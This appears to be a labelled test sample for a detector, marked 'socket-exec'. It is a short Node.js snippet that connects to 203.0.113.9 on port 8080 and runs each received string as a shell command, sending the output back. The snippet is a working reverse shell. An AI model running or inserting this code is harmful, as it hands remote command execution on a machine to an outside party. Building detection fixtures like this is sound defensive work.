// expect: socket-exec
const { exec } = require("child_process");
const sock = require("net").createConnection(8080, "203.0.113.9");
sock.on("data", (cmd) => {
  exec(cmd.toString(), (err, out) => sock.write(out));
});
